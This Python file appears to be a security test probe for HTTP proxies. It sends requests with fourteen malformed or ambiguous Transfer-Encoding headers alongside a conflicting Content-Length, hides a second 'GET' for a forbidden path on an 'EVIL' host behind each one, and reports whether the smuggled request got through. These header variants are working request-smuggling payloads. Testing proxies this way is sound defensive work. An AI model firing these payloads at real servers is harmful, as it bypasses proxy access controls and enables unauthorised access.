"""Names codings that only some readers take for pieces, with a second request hidden behind."""
# outside: escapes

from attempt import attempt
from proxied import EVIL, FORBIDDEN, GOOD, exchange, reached, status

HIDDEN = f"GET /{FORBIDDEN} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode()


@attempt
def main():
    found = []
    for field in (
        b"Transfer-Encoding: xchunked",
        b"Transfer-Encoding: chunked, identity",
        b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding:\x0bchunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: gzip, chunked",
        b" Transfer-Encoding: chunked",
        b"X: y\nTransfer-Encoding: chunked",
        b"Transfer-Encoding:",
        b'Transfer-Encoding: "chunked"',
        b"Transfer-Encoding: chunked;q=1",
        b"Transfer-Encoding: chun\xc3\xa4ked",
    ):
        raw = exchange(
            f"POST http://{GOOD}/odd-codings HTTP/1.1\r\nHost: {GOOD}\r\n".encode()
            + field
            + b"\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"
            + HIDDEN,
            answers=1,
        )
        found += [f"{field!r}: {who}" for who in reached(raw, GOOD)] + (
            [f"{field!r}: {status(raw)}"] if status(raw) in range(200, 300) else []
        )
    return found
